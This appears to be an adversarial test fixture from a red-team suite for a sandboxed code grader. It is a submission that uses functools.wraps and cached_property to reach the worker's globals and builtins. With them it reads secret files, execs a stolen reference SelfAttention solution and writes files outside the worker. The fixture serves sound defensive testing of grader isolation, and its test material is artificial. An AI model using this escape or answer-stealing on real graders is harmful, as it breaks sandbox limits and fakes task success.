# attack: functools.wraps(assigned=(NAME,)) copies any attribute named by a string, and a cached_property whose attrname is set afterwards reads it back: a module's globals, its builtins, then read the reference and write outside -> fail (unsafe_code)
# runtime: fail (no_scaling)
# Invariant: no allowlisted helper looks attributes up by a string (functools.wraps and update_wrapper are out),
# attributes are set only through self or ctx, and attrname is an escape name (red-team round 3 of issue 19);
# with arbitrary code anyway, no reference is readable and nothing is written outside the worker.
import functools

import torch
import torch.nn as nn
import torch.nn.functional as F

SECRETS = "@SECRETS@".split("|")  # filled in by tests/test_adversarial.py
TARGETS = "@TARGETS@".split("|")
NAME = "__glob" + "als__"


def getg(self):
    return None


cp = functools.cached_property(getg)


class Box:
    g = cp


cp.attrname = NAME
box = Box()
functools.wraps(F.softmax, assigned=(NAME,), updated=())(box)
B = box.g["__buil" + "tins__"]
stolen = {}
for path in SECRETS:
    try:
        with B["open"](path) as f:
            text = f.read()
    except OSError:
        continue
    if "class SelfAttention" in text:
        B["exec"](text, stolen)
        break
for target in TARGETS + ["/tmp/@MARKER@"]:
    try:
        with B["open"](target, "w") as f:
            f.write("written by a submission")
    except OSError:
        pass

if "SelfAttention" in stolen:
    SelfAttention = stolen["SelfAttention"]
else:
    class SelfAttention(nn.Module):  # what is left: attention without its scaling
        def __init__(self, d_in, d_out, qkv_bias=False):
            super().__init__()
            self.W_query = nn.Linear(d_in, d_out, bias=qkv_bias)
            self.W_key = nn.Linear(d_in, d_out, bias=qkv_bias)
            self.W_value = nn.Linear(d_in, d_out, bias=qkv_bias)

        def forward(self, x):
            att = self.W_query(x) @ self.W_key(x).transpose(-2, -1)
            return torch.softmax(att, dim=-1) @ self.W_value(x)
